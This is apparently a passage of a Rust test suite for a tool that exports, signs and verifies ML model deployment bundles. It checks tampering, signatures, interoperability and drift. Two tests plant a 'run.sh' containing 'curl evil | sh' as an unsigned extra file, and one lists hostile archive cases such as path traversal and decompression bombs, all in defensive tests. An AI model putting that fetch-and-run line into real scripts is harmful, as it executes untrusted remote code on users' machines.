//! Deployment bundles: reproducible bytes, verification, tampering, hostile archives, the
//! interoperability fixtures (tests/fixtures/bundle_reference.py ran mlflow, Triton's protobuf
//! schema and kserve's models on Lathe's bundles) and drift against the reference profile.
//!
//! Tolerances: MLflow's predictions 1e-5 (both run the same float32 graph); profile drift on
//! columns kept as exact counts 1e-12; on columns kept as quantiles, the K-S statistic within
//! 1/n of the reference and the same verdict.

use std::path::{Path, PathBuf};
use std::process::Command;

use lathe_core::Project;
use lathe_core::bundle::{self, ExportOptions, FileStatus, Limits, SignatureStatus, archive, sign};
use lathe_core::dataset::browse::TableSource;
use lathe_core::dataset::stream::MemoryLimit;
use lathe_core::drift::{self, DriftOptions, SideInfo};
use lathe_core::job::Job;
use lathe_core::model::{Model, feature_matrix};
use polars::prelude::*;
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::support::{copy_dir, repo, tree};

fn demo(dir: &Path) -> Project {
    lathe_core::demo::create(&dir.join("demo"), Default::default(), &Job::silent()).unwrap()
}

fn export(project: &Project, model: &str, eval: Option<&str>, out: &Path, key: Option<&Path>) {
    bundle::export(
        project,
        &ExportOptions {
            model: model.into(),
            out: out.to_path_buf(),
            eval_dataset: eval.map(str::to_owned),
            sign_key: key.map(Path::to_path_buf),
            ..Default::default()
        },
        &Job::silent(),
    )
    .unwrap_or_else(|e| panic!("export {model}: {e}"));
}

fn sha(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

#[test]
fn export_is_reproducible_and_verifies_with_sha256sum() {
    let tmp = tempfile::tempdir().unwrap();
    let project = demo(tmp.path());
    let (a, b, dir) = (
        tmp.path().join("a.tar.gz"),
        tmp.path().join("b.tar.gz"),
        tmp.path().join("folder"),
    );
    export(
        &project,
        "breast_cancer_classifier@production",
        Some("breast_cancer@2"),
        &a,
        None,
    );
    export(
        &project,
        "breast_cancer_classifier@1",
        Some("breast_cancer@2"),
        &b,
        None,
    );
    export(
        &project,
        "breast_cancer_classifier@1",
        Some("breast_cancer@2"),
        &dir,
        None,
    );
    assert_eq!(
        std::fs::read(&a).unwrap(),
        std::fs::read(&b).unwrap(),
        "same inputs, same bytes"
    );

    // The archive holds exactly the folder's files under <model>-<version>/.
    let packed = archive::read(&a, Limits::default()).unwrap();
    assert_eq!(packed.root, "breast_cancer_classifier-1");
    let unpacked = archive::read(&dir, Limits::default()).unwrap();
    assert_eq!(packed.files, unpacked.files);
    for required in [
        "manifest.json",
        "model/model.onnx",
        "model/signature.json",
        "model/input_example.json",
        "MLmodel",
        "model/MLmodel",
        "triton/breast_cancer_classifier/config.pbtxt",
        "triton/breast_cancer_classifier/1/model.onnx",
        "kserve.yaml",
        "MODEL_CARD.md",
        "monitoring/reference_profile.json",
        "reports/evaluation.html",
        "reports/explanation.html",
        "reports/drift.html",
        "charts/shap_beeswarm.svg",
        "charts/evaluation_roc.svg",
        "SHA256SUMS",
    ] {
        assert!(packed.files.contains_key(required), "missing {required}");
    }
    // No wall-clock time inside: the tar headers carry the version's registration time.
    let version =
        lathe_core::model::registry::show(&project, "breast_cancer_classifier@1").unwrap();
    let manifest: bundle::Manifest =
        serde_json::from_slice(packed.get("manifest.json").unwrap()).unwrap();
    assert_eq!(manifest.created, version.registered_at);
    assert_eq!(manifest.model.sha256, version.sha256);
    assert_eq!(
        manifest.lineage.training_dataset.as_ref().unwrap().name,
        "breast_cancer"
    );
    assert!(manifest.metrics.contains_key("roc_auc"));
    let listed: Vec<&str> = manifest.files.iter().map(|f| f.path.as_str()).collect();
    assert!(!listed.contains(&"manifest.json") && !listed.contains(&"SHA256SUMS"));
    assert_eq!(listed.len(), packed.files.len() - 2);

    let v = bundle::verify(&a, None).unwrap();
    assert!(v.ok, "{:?}", v.problems);
    assert_eq!(v.signature.status, SignatureStatus::Absent);
    let status = Command::new("sha256sum")
        .args(["--check", "--strict", "--quiet", "SHA256SUMS"])
        .current_dir(&dir)
        .status()
        .expect("sha256sum (coreutils)");
    assert!(
        status.success(),
        "sha256sum -c SHA256SUMS failed in the unpacked bundle"
    );

    // An existing archive is never overwritten; a non-empty folder is refused.
    let again = bundle::export(
        &project,
        &ExportOptions {
            model: "breast_cancer_classifier@1".into(),
            out: a.clone(),
            ..Default::default()
        },
        &Job::silent(),
    );
    assert!(
        again
            .unwrap_err()
            .to_string()
            .contains("does not overwrite")
    );
    assert_eq!(bundle::list(&project).unwrap().len(), 3);
    let before = tree(&dir);
    let into_folder = bundle::export(
        &project,
        &ExportOptions {
            model: "breast_cancer_classifier@1".into(),
            out: dir.clone(),
            ..Default::default()
        },
        &Job::silent(),
    );
    let err = into_folder.unwrap_err();
    assert_eq!(err.code(), "bad_argument");
    assert!(err.to_string().contains("not an empty folder"), "{err}");
    assert_eq!(tree(&dir), before, "the folder is untouched");

    // A missing dataset fails before anything is written or recorded.
    let out = tmp.path().join("never.tar.gz");
    let err = bundle::export(
        &project,
        &ExportOptions {
            model: "breast_cancer_classifier@1".into(),
            out: out.clone(),
            eval_dataset: Some("no_such_data".into()),
            ..Default::default()
        },
        &Job::silent(),
    )
    .unwrap_err();
    assert_eq!(err.code(), "not_found", "{err}");
    assert!(!out.exists());
    assert_eq!(bundle::list(&project).unwrap().len(), 3);
    let leftovers: Vec<_> = std::fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".tmp") || n.starts_with(".lathe-bundle"))
        .collect();
    assert!(leftovers.is_empty(), "temporary files left: {leftovers:?}");
}

#[test]
fn an_openssf_model_signature_covers_every_file() {
    let tmp = tempfile::tempdir().unwrap();
    let project = demo(tmp.path());
    let (key_c, key_d, key_e) = (
        tmp.path().join("c.key"),
        tmp.path().join("d.key"),
        tmp.path().join("e.key"),
    );
    let c = sign::new_key(&key_c, sign::KeyType::EcdsaP256).unwrap();
    sign::new_key(&key_d, sign::KeyType::EcdsaP256).unwrap();
    sign::new_key(&key_e, sign::KeyType::Ed25519).unwrap();
    assert!(
        sign::new_key(&key_c, sign::KeyType::EcdsaP256).is_err(),
        "keys are never overwritten"
    );
    let pem = std::fs::read_to_string(&key_c).unwrap();
    assert!(pem.starts_with("-----BEGIN PRIVATE KEY-----"), "{pem}");
    let public_c = sign::read_public(Path::new(&c.public_key)).unwrap();
    let public_d = sign::read_public(&sign::public_path(&key_d)).unwrap();
    let public_e = sign::read_public(&sign::public_path(&key_e)).unwrap();

    let dir = tmp.path().join("signed");
    export(
        &project,
        "diabetes_risk_classifier",
        Some("diabetes_risk"),
        &dir,
        Some(&key_c),
    );
    assert!(dir.join("model.sig").is_file());
    assert!(!dir.join("SHA256SUMS.sig").exists());
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(dir.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["signature"]["algorithm"], "ecdsa-p256-sha256");
    assert_eq!(manifest["signature"]["signature_file"], "model.sig");
    for (trusted, status) in [
        (Some(&public_c), SignatureStatus::Valid),
        (None, SignatureStatus::Valid),
        (Some(&public_d), SignatureStatus::Untrusted),
        // An Ed25519 key cannot have made it: valid, by another key.
        (Some(&public_e), SignatureStatus::Untrusted),
    ] {
        let v = bundle::verify(&dir, trusted).unwrap();
        assert_eq!(v.signature.status, status, "{:?}", v.signature);
        assert_eq!(v.ok, status == SignatureStatus::Valid, "{:?}", v.problems);
    }
    let v = bundle::verify(&dir, Some(&public_c)).unwrap();
    assert_eq!(
        v.signature.fingerprint.as_deref(),
        Some(c.fingerprint.as_str())
    );

    // The signed statement lists every file but model.sig, SHA256SUMS and the manifest included.
    let sig: Value =
        serde_json::from_slice(&std::fs::read(dir.join("model.sig")).unwrap()).unwrap();
    use base64::Engine as _;
    let payload = base64::engine::general_purpose::STANDARD
        .decode(sig["dsseEnvelope"]["payload"].as_str().unwrap())
        .unwrap();
    let statement: Value = serde_json::from_slice(&payload).unwrap();
    let signed: Vec<&str> = statement["predicate"]["resources"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["name"].as_str().unwrap())
        .collect();
    let files = tree(&dir);
    let mut expected: Vec<String> = files
        .iter()
        .map(|(rel, _)| rel.to_str().unwrap().to_owned())
        .filter(|p| p != "model.sig")
        .collect();
    expected.sort();
    assert_eq!(signed, expected);

    // Flip one byte in each file in turn, the signature included: verification fails and
    // names that file.
    for (rel, len) in &files {
        let copy = tmp
            .path()
            .join(format!("t-{}", rel.display()).replace('/', "_"));
        copy_dir(&dir, &copy);
        let target = copy.join(rel);
        let mut bytes = std::fs::read(&target).unwrap();
        bytes[(*len as usize) / 2] ^= 0x01;
        std::fs::write(&target, bytes).unwrap();
        let name = rel.to_str().unwrap();
        for trusted in [Some(&public_c), None] {
            let v = bundle::verify(&copy, trusted).unwrap();
            assert!(!v.ok, "flipping a byte of {name} went unnoticed");
            assert!(
                v.files
                    .iter()
                    .any(|f| f.path == name && f.status != FileStatus::Ok),
                "{name} not named: {:?}",
                v.problems
            );
        }
        std::fs::remove_dir_all(&copy).unwrap();
    }

    // A file added: listed nowhere, and not signed.
    let extra = tmp.path().join("extra");
    copy_dir(&dir, &extra);
    std::fs::write(extra.join("run.sh"), "curl evil | sh\n").unwrap();
    let v = bundle::verify(&extra, Some(&public_c)).unwrap();
    assert!(!v.ok);
    assert_eq!(v.signature.status, SignatureStatus::Invalid);
    assert!(
        v.signature.detail.contains("'run.sh'"),
        "{}",
        v.signature.detail
    );

    // An OpenSSL P-256 key (SEC1 PEM) signs as well.
    let sec1 = tmp.path().join("openssl.pem");
    let made = Command::new("openssl")
        .args([
            "ecparam",
            "-name",
            "prime256v1",
            "-genkey",
            "-noout",
            "-out",
        ])
        .arg(&sec1)
        .status();
    if made.is_ok_and(|s| s.success()) {
        let key = sign::read_private(&sec1).unwrap();
        assert!(matches!(key, sign::PrivateKey::P256(_)));
    }
}

#[test]
fn every_tampered_file_is_named_and_signatures_are_checked() {
    let tmp = tempfile::tempdir().unwrap();
    let project = demo(tmp.path());
    let (key_a, key_b) = (tmp.path().join("a.key"), tmp.path().join("b.key"));
    let a = sign::new_key(&key_a, sign::KeyType::Ed25519).unwrap();
    sign::new_key(&key_b, sign::KeyType::Ed25519).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&key_a).unwrap().permissions().mode();
        assert_eq!(
            mode & 0o777,
            0o600,
            "a private key is readable by its owner only"
        );
    }
    assert!(
        sign::new_key(&key_a, sign::KeyType::Ed25519).is_err(),
        "keys are never overwritten"
    );
    let public_a = sign::read_public(Path::new(&a.public_key)).unwrap();
    let public_b = sign::read_public(&sign::public_path(&key_b)).unwrap();

    let dir = tmp.path().join("signed");
    export(
        &project,
        "diabetes_risk_classifier",
        Some("diabetes_risk"),
        &dir,
        Some(&key_a),
    );
    let v = bundle::verify(&dir, Some(&public_a)).unwrap();
    assert!(v.ok, "{:?}", v.problems);
    assert_eq!(v.signature.status, SignatureStatus::Valid);
    assert_eq!(
        v.signature.fingerprint.as_deref(),
        Some(a.fingerprint.as_str())
    );
    // Another trusted key: the signature is valid but not by that key.
    let v = bundle::verify(&dir, Some(&public_b)).unwrap();
    assert!(!v.ok);
    assert_eq!(v.signature.status, SignatureStatus::Untrusted);

    // OpenSSL checks the same signature with the .pub file (Ed25519 needs OpenSSL ≥ 3).
    let openssl = Command::new("openssl")
        .args([
            "pkeyutl",
            "-verify",
            "-pubin",
            "-inkey",
            &a.public_key,
            "-rawin",
        ])
        .args(["-in", "SHA256SUMS", "-sigfile", "SHA256SUMS.sig"])
        .current_dir(&dir)
        .output();
    if let Ok(out) = openssl {
        assert!(
            out.status.success(),
            "openssl: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    // A signature by another key over the same SHA256SUMS: invalid.
    let forged = tmp.path().join("forged");
    copy_dir(&dir, &forged);
    let sums = std::fs::read(forged.join("SHA256SUMS")).unwrap();
    let sign::PrivateKey::Ed25519(b_key) = sign::read_private(&key_b).unwrap() else {
        panic!("an Ed25519 key")
    };
    std::fs::write(forged.join("SHA256SUMS.sig"), sign::sign(&b_key, &sums)).unwrap();
    let v = bundle::verify(&forged, None).unwrap();
    assert!(!v.ok);
    assert_eq!(v.signature.status, SignatureStatus::Invalid);

    // Flip one byte in each file in turn: verification fails and names that file.
    let files = tree(&dir);
    assert!(files.len() > 15);
    for (rel, len) in &files {
        let copy = tmp
            .path()
            .join(format!("t-{}", rel.display()).replace('/', "_"));
        copy_dir(&dir, &copy);
        let target = copy.join(rel);
        let mut bytes = std::fs::read(&target).unwrap();
        bytes[(*len as usize) / 2] ^= 0x01;
        std::fs::write(&target, bytes).unwrap();
        let v = bundle::verify(&copy, Some(&public_a)).unwrap();
        let name = rel.to_str().unwrap();
        assert!(!v.ok, "flipping a byte of {name} went unnoticed");
        let named = v
            .files
            .iter()
            .any(|f| f.path == name && f.status != FileStatus::Ok);
        assert!(
            named,
            "{name} not named: {:?}",
            v.files
                .iter()
                .filter(|f| f.status != FileStatus::Ok)
                .collect::<Vec<_>>()
        );
        std::fs::remove_dir_all(&copy).unwrap();
    }

    // A file added, a file removed.
    let extra = tmp.path().join("extra");
    copy_dir(&dir, &extra);
    std::fs::write(extra.join("run.sh"), "curl evil | sh\n").unwrap();
    let v = bundle::verify(&extra, None).unwrap();
    assert!(
        v.files
            .iter()
            .any(|f| f.path == "run.sh" && f.status == FileStatus::Extra)
    );
    std::fs::remove_file(extra.join("run.sh")).unwrap();
    std::fs::remove_file(extra.join("kserve.yaml")).unwrap();
    let v = bundle::verify(&extra, None).unwrap();
    assert!(
        v.files
            .iter()
            .any(|f| f.path == "kserve.yaml" && f.status == FileStatus::Missing)
    );

    // Unsigned, but a trusted key was given: not ok.
    let plain = tmp.path().join("plain.tar.gz");
    export(&project, "diabetes_regressor", None, &plain, None);
    let v = bundle::verify(&plain, Some(&public_a)).unwrap();
    assert!(!v.ok);
    assert_eq!(v.signature.status, SignatureStatus::Absent);
}

#[test]
fn hostile_archives_are_rejected_before_anything_is_written() {
    let corpus = repo().join("tests/corpus/bundles");
    let cases = [
        ("dotdot.tar.gz", "climbs out of the bundle"),
        ("absolute.tar.gz", "absolute path"),
        ("symlink.tar.gz", "is a link"),
        ("hardlink.tar.gz", "is a link"),
        ("device.tar.gz", "block device"),
        ("chardev.tar.gz", "character device"),
        ("fifo.tar.gz", "FIFO"),
        ("duplicate.tar.gz", "appears twice"),
        ("two_roots.tar.gz", "one top-level folder"),
        ("missing_manifest.tar.gz", "no manifest.json"),
        ("non_utf8.tar.gz", "not UTF-8"),
        ("size_lies.tar.gz", "truncated"),
        ("bomb.tar.gz", "decompression bomb"),
        ("not_gzip.tar.gz", "not a bundle"),
        ("truncated.tar.gz", "cannot read entry"),
    ];
    let tmp = tempfile::tempdir().unwrap();
    let before = tree(tmp.path());
    for (file, fragment) in cases {
        let path = corpus.join(file);
        let err = bundle::verify(&path, None).expect_err(file);
        assert_eq!(err.code(), "bad_bundle", "{file}: {err}");
        assert!(err.to_string().contains(fragment), "{file}: {err}");
        let err = bundle::check_drift(
            &path,
            &TableSource::File {
                path: repo().join("assets/datasets/diabetes.csv"),
                options: Default::default(),
            },
            &DriftOptions::default(),
            &Job::silent(),
        )
        .expect_err(file);
        assert_eq!(err.code(), "bad_bundle", "{file}: {err}");
    }
    assert_eq!(tree(tmp.path()), before);
    // A manifest listing a file the archive lacks: read, but it does not verify.
    let v = bundle::verify(&corpus.join("listed_absent.tar.gz"), None).unwrap();
    assert!(!v.ok);
    assert!(
        v.files
            .iter()
            .any(|f| f.path == "model/model.onnx" && f.status == FileStatus::Missing)
    );
    // Every corpus file is covered above.
    let listed = std::fs::read_dir(&corpus)
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .path()
                .to_string_lossy()
                .ends_with(".tar.gz")
        })
        .count();
    assert_eq!(listed, cases.len() + 1);
}

fn fixture() -> Value {
    let path = repo().join("tests/fixtures/bundle/expected.json");
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn triton_type(dtype: &str) -> &'static str {
    match dtype {
        "float32" => "TYPE_FP32",
        "int64" => "TYPE_INT64",
        "float64" => "TYPE_FP64",
        other => panic!("no Triton type for {other} in the demo models"),
    }
}

#[test]
fn mlflow_triton_and_kserve_read_the_bundle_as_lathe_wrote_it() {
    let expected = fixture();
    let tmp = tempfile::tempdir().unwrap();
    let project = demo(tmp.path());
    for case in expected["cases"].as_array().unwrap() {
        let model_ref = case["model"].as_str().unwrap();
        let dir: PathBuf = tmp.path().join(model_ref.replace('@', "-"));
        export(&project, model_ref, case["data"].as_str(), &dir, None);
        let read = |p: &str| std::fs::read(dir.join(p)).unwrap();
        let signature: Value = serde_json::from_slice(&read("model/signature.json")).unwrap();
        let name = model_ref.split('@').next().unwrap();
        let mlmodel: Vec<u8> = String::from_utf8(read("MLmodel"))
            .unwrap()
            .split_inclusive('\n')
            .filter(|l| !l.starts_with("utc_time_created"))
            .collect::<String>()
            .into_bytes();
        let hashes = &case["sha256"];
        assert_eq!(
            sha(&read("model/model.onnx")),
            hashes["model/model.onnx"],
            "{model_ref}"
        );
        assert_eq!(
            sha(&mlmodel),
            hashes["MLmodel_without_time"],
            "{model_ref}: MLmodel changed since the fixture; rerun tests/fixtures/bundle_reference.py"
        );
        let config = read(&format!("triton/{name}/config.pbtxt"));
        assert_eq!(
            sha(&config),
            hashes["config.pbtxt"],
            "{model_ref}: config.pbtxt changed; rerun the fixture"
        );
        for file in ["kserve.yaml", "deploy/kserve.yaml", "code/lathe_pyfunc.py"] {
            assert_eq!(
                sha(&read(file)),
                hashes[file],
                "{model_ref}: {file} changed; rerun the fixture"
            );
        }
        let c = &case["kserve_container"];
        assert_eq!(c["name"], "kserve-container");
        assert_eq!(c["readiness"], "/v2/health/ready");
        assert_eq!(c["liveness"], "/v2/health/live");
        assert_eq!(
            c["ports"],
            serde_json::json!([{"name": "http1", "container_port": 8080}])
        );

        // Triton's schema read our config as the model's signature.
        let triton = &case["triton"];
        assert_eq!(triton["name"], name);
        assert_eq!(triton["backend"], "onnxruntime");
        for (key, side) in [("input", "inputs"), ("output", "outputs")] {
            let ours = signature[side].as_array().unwrap();
            let theirs = triton[key].as_array().unwrap();
            assert_eq!(ours.len(), theirs.len());
            for (o, t) in ours.iter().zip(theirs) {
                assert_eq!(o["name"], t["name"]);
                assert_eq!(triton_type(o["dtype"].as_str().unwrap()), t["data_type"]);
                let dims: Vec<i64> = o["shape"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|d| d.as_i64().unwrap_or(-1))
                    .collect();
                let theirs: Vec<i64> = serde_json::from_value(t["dims"].clone()).unwrap();
                assert_eq!(dims, theirs, "{model_ref} {key}");
            }
        }
        let k = &case["kserve"];
        assert_eq!(k["api_version"], "serving.kserve.io/v1beta1");
        assert_eq!(k["kind"], "InferenceService");
        assert_eq!(k["model_format"], "onnx");
        assert_eq!(k["protocol_version"], "v2");

        // MLflow's predictions on the unpacked bundle are Lathe's.
        let frame = TableSource::File {
            path: repo()
                .join("assets/datasets")
                .join(case["csv"].as_str().unwrap()),
            options: Default::default(),
        }
        .frame(None)
        .unwrap()
        .head(Some(case["rows"].as_u64().unwrap() as usize));
        let features: Vec<String> = serde_json::from_value(signature["features"].clone()).unwrap();
        let model = Model::load(&read("model/model.onnx"), model_ref).unwrap();
        let x = feature_matrix(&frame, &features).unwrap();
        let prediction = model.predict(&x, features.len()).unwrap();
        // Through the adapter, from a DataFrame (loaded, and served by `mlflow models serve`):
        // one column per output value, named as `lathe model predict --out` names them.
        let header = prediction.to_csv();
        let names: Vec<&str> = header.lines().next().unwrap().split(',').collect();
        for key in ["mlflow_outputs", "mlflow_serve_outputs"] {
            let theirs = case[key].as_object().unwrap();
            assert_eq!(
                theirs
                    .keys()
                    .map(String::as_str)
                    .collect::<std::collections::BTreeSet<_>>(),
                names.iter().copied().collect(),
                "{model_ref} {key}"
            );
            for (j, name) in names.iter().enumerate() {
                let rows: Vec<f64> = header
                    .lines()
                    .skip(1)
                    .map(|l| l.split(',').nth(j).unwrap().parse().unwrap())
                    .collect();
                let values = theirs[*name].as_array().unwrap();
                assert_eq!(rows.len(), values.len(), "{model_ref} {key} {name}");
                for (i, (a, b)) in rows.iter().zip(values).enumerate() {
                    let b = b.as_f64().unwrap();
                    assert!(
                        (a - b).abs() <= 1e-5,
                        "{model_ref} {key} {name}[{i}]: Lathe {a}, MLflow {b}"
                    );
                }
            }
        }
        for (output, values) in case["mlflow_tensor_outputs"].as_object().unwrap() {
            let theirs: Vec<f64> = match values.as_array().unwrap().first() {
                Some(Value::Array(_)) => values
                    .as_array()
                    .unwrap()
                    .iter()
                    .flat_map(|r| r.as_array().unwrap().iter().map(|v| v.as_f64().unwrap()))
                    .collect(),
                _ => values
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|v| v.as_f64().unwrap())
                    .collect(),
            };
            let ours = prediction.get(output).unwrap().to_f64("test").unwrap();
            assert_eq!(ours.len(), theirs.len(), "{model_ref} {output}");
            for (i, (a, b)) in ours.iter().zip(&theirs).enumerate() {
                assert!(
                    (a - b).abs() <= 1e-5,
                    "{model_ref} {output}[{i}]: Lathe {a}, MLflow {b}"
                );
            }
        }
    }
}

fn side(name: &str, frame: &DataFrame) -> SideInfo {
    SideInfo {
        name: name.into(),
        version: None,
        rows: frame.height() as u64,
    }
}

/// Profile drift against `lathe drift` on the raw reference: exact-count columns to 1e-12,
/// quantile columns within 1/n of the reference on the K-S statistic, the same verdicts.
fn compare_with_raw(reference: &DataFrame, current: &DataFrame) -> (usize, usize) {
    let columns: Vec<String> = reference
        .get_column_names()
        .iter()
        .map(|c| c.to_string())
        .collect();
    let profile = bundle::profile::build(reference, &columns, "ref@1", "0").unwrap();
    let raw = drift::compare_frames(
        (side("ref", reference), reference),
        (side("cur", current), current),
        &DriftOptions::default(),
        &Job::silent(),
    )
    .unwrap();
    let from_profile = bundle::profile::check_drift(
        &profile,
        side("ref", reference),
        (side("cur", current), current),
        &DriftOptions::default(),
    )
    .unwrap();
    assert_eq!(raw.columns.len(), from_profile.columns.len());
    let (mut exact, mut approximate) = (0, 0);
    for (r, p) in raw.columns.iter().zip(&from_profile.columns) {
        assert_eq!(r.name, p.name);
        assert_eq!(r.method, p.method, "{}", r.name);
        assert_eq!(
            r.drifted, p.drifted,
            "{}: verdicts differ ({} vs {})",
            r.name, r.score, p.score
        );
        let n = r.n_reference as f64;
        if p.method_reason.contains("exact value counts") {
            exact += 1;
            assert!(
                (r.score - p.score).abs() <= 1e-12,
                "{}: {} vs {}",
                r.name,
                r.score,
                p.score
            );
        } else {
            approximate += 1;
            assert!(p.method_reason.contains("1001 quantiles"));
            match r.method {
                drift::Method::Ks => assert!(
                    (r.statistic - p.statistic).abs() <= 1.0 / n + 1e-9,
                    "{}: D {} vs {}",
                    r.name,
                    r.statistic,
                    p.statistic
                ),
                _ => assert!(
                    (r.score - p.score).abs() <= 0.01 * r.score.abs().max(0.01),
                    "{}: {} {} vs {}",
                    r.name,
                    r.method.name(),
                    r.score,
                    p.score
                ),
            }
        }
    }
    (exact, approximate)
}

#[test]
fn drift_against_the_reference_profile_agrees_with_lathe_drift() {
    let read = |name: &str| {
        TableSource::File {
            path: repo().join("assets/datasets").join(name),
            options: Default::default(),
        }
        .frame(None)
        .unwrap()
    };
    // Small references (K-S, chi-square, z): the demo's breast cancer batches.
    let reference = read("breast_cancer.csv").drop("diagnosis").unwrap();
    let current = read("breast_cancer_batch2.csv").drop("diagnosis").unwrap();
    let (exact, approximate) = compare_with_raw(&reference, &current);
    assert!(exact >= 1 && approximate >= 20, "{exact} {approximate}");

    // A large reference (Wasserstein, Jensen–Shannon), generated: 5,000 rows.
    let n = 5000;
    let x: Vec<f64> = (0..n)
        .map(|i| ((i * 7919) % n) as f64 / 50.0 + (i % 13) as f64 * 0.37)
        .collect();
    let y: Vec<f64> = (0..2000)
        .map(|i| ((i * 104729) % 2000) as f64 / 17.0 + 3.0)
        .collect();
    let cat = |m: usize, k: usize| -> Vec<String> {
        (0..m).map(|i| format!("c{}", (i * 31) % k)).collect()
    };
    let codes =
        |m: usize, k: usize| -> Vec<i64> { (0..m).map(|i| ((i * 17) % k) as i64).collect() };
    let reference = df!("x" => x, "cat" => cat(n, 7), "code" => codes(n, 4)).unwrap();
    let current = df!("x" => y, "cat" => cat(2000, 9), "code" => codes(2000, 5)).unwrap();
    let (exact, approximate) = compare_with_raw(&reference, &current);
    assert_eq!((exact, approximate), (2, 1));
}

#[test]
fn check_drift_refuses_a_bundle_whose_profile_was_altered() {
    let tmp = tempfile::tempdir().unwrap();
    let project = demo(tmp.path());
    let dir = tmp.path().join("b");
    export(&project, "diabetes_regressor", None, &dir, None);
    let data = TableSource::File {
        path: repo().join("assets/datasets/diabetes.csv"),
        options: Default::default(),
    };
    let report =
        bundle::check_drift(&dir, &data, &DriftOptions::default(), &Job::silent()).unwrap();
    assert!(!report.dataset_drift, "the reference against itself");
    assert!(report.columns.iter().all(|c| !c.drifted));
    // A bundle exported without a reference has no profile to check against.
    let registered = lathe_core::model::registry::register(
        &project,
        &repo().join("assets/models/diabetes_boosting.onnx"),
        &lathe_core::model::registry::RegisterOptions {
            name: "bare".into(),
            features: Some(
                [
                    "age", "sex", "bmi", "bp", "s1", "s2", "s3", "s4", "s5", "s6",
                ]
                .map(String::from)
                .to_vec(),
            ),
            ..Default::default()
        },
        &Job::silent(),
    )
    .unwrap();
    let bare = tmp.path().join("bare");
    export(&project, &registered.model.reference(), None, &bare, None);
    let err =
        bundle::check_drift(&bare, &data, &DriftOptions::default(), &Job::silent()).unwrap_err();
    assert_eq!(err.code(), "bad_bundle");
    assert!(
        err.to_string()
            .contains("exported without a reference dataset"),
        "{err}"
    );
    let profile = dir.join("monitoring/reference_profile.json");
    let text =
        std::fs::read_to_string(&profile)
            .unwrap()
            .replacen("\"count\": 442", "\"count\": 44", 1);
    std::fs::write(&profile, text).unwrap();
    let err =
        bundle::check_drift(&dir, &data, &DriftOptions::default(), &Job::silent()).unwrap_err();
    assert!(err.to_string().contains("reference_profile.json"), "{err}");
}

/// An export whose datasets are over its memory limit evaluates, explains, profiles the
/// reference and tests drift a slice at a time: the same files as the export in memory (but
/// for the export's time in the card and the manifest).
#[test]
fn an_export_over_its_memory_limit_writes_the_same_files() {
    let tmp = tempfile::tempdir().unwrap();
    let mut folders = Vec::new();
    for (i, limit) in [None, Some(MemoryLimit(256 << 10))].into_iter().enumerate() {
        let project = lathe_core::demo::create(
            &tmp.path().join(format!("demo{i}")),
            Default::default(),
            &Job::silent(),
        )
        .unwrap();
        let out = tmp.path().join(format!("bundle{i}"));
        bundle::export(
            &project,
            &ExportOptions {
                model: "breast_cancer_classifier@production".into(),
                out: out.clone(),
                eval_dataset: Some("breast_cancer@2".into()),
                memory_limit: limit,
                checks: None,
                ..Default::default()
            },
            &Job::silent(),
        )
        .unwrap();
        folders.push(out);
    }
    let timed = [
        "MLmodel",
        "model/MLmodel",
        "MODEL_CARD.md",
        "manifest.json",
        "sbom.cdx.json",
        "SHA256SUMS",
    ];
    let files = tree(&folders[0]);
    for wanted in [
        "monitoring/reference_profile.json",
        "reports/drift.html",
        "reports/evaluation.html",
        "reports/explanation.html",
    ] {
        assert!(
            files.iter().any(|(rel, _)| rel == Path::new(wanted)),
            "{wanted}"
        );
    }
    assert_eq!(
        files.iter().map(|(rel, _)| rel).collect::<Vec<_>>(),
        tree(&folders[1])
            .iter()
            .map(|(rel, _)| rel)
            .collect::<Vec<_>>()
    );
    for (rel, _) in files
        .iter()
        .filter(|(rel, _)| !timed.iter().any(|t| rel == Path::new(t)))
    {
        let read = |f: &PathBuf| std::fs::read(f.join(rel)).unwrap();
        assert!(
            read(&folders[0]) == read(&folders[1]),
            "{} differs",
            rel.display()
        );
    }
}

/// What `tests/fixtures/oms_reference.py` recorded with the real `model-signing` 1.1.1: Lathe
/// verifies the bundle model_signing signed (with its key; a changed copy is refused), and the
/// signature Lathe made that model_signing accepted still verifies as Lathe reads it.
#[test]
fn signatures_made_by_and_for_model_signing_verify() {
    let fixtures = repo().join("tests/fixtures/oms");
    let expected: Value =
        serde_json::from_slice(&std::fs::read(fixtures.join("expected.json")).unwrap()).unwrap();
    assert_eq!(
        expected["model_signing_verifies_lathe"]["unchanged"]["ok"],
        true
    );
    for change in ["changed_model", "changed_manifest", "changed_signature"] {
        assert_eq!(
            expected["model_signing_verifies_lathe"][change]["ok"], false,
            "{change}"
        );
    }
    let theirs = fixtures.join("signed-by-model-signing");
    let key = sign::read_public(&fixtures.join("model-signing.pub")).unwrap();
    let v = bundle::verify(&theirs, Some(&key)).unwrap();
    assert!(v.ok, "{:?}", v.problems);
    assert_eq!(v.signature.status, SignatureStatus::Valid);
    // Without a key the signer is unknown: the bundle does not name it.
    let v = bundle::verify(&theirs, None).unwrap();
    assert_eq!(v.signature.status, SignatureStatus::Untrusted);
    let tmp = tempfile::tempdir().unwrap();
    let copy = tmp.path().join("copy");
    copy_dir(&theirs, &copy);
    let model = copy.join("model/model.onnx");
    let mut bytes = std::fs::read(&model).unwrap();
    bytes[10] ^= 1;
    std::fs::write(&model, bytes).unwrap();
    let v = bundle::verify(&copy, Some(&key)).unwrap();
    assert!(!v.ok);
    assert_eq!(v.signature.status, SignatureStatus::Invalid);

    let ours = std::fs::read(fixtures.join("signed-by-lathe.sig")).unwrap();
    let sign::PublicKey::P256(lathe_key) = sign::read_public(&fixtures.join("lathe.pub")).unwrap()
    else {
        panic!("a P-256 key")
    };
    let signed = bundle::oms::verify(&ours, &lathe_key).unwrap();
    assert!(signed.resources.contains_key("model/model.onnx"));
    assert!(signed.resources.contains_key("manifest.json"));
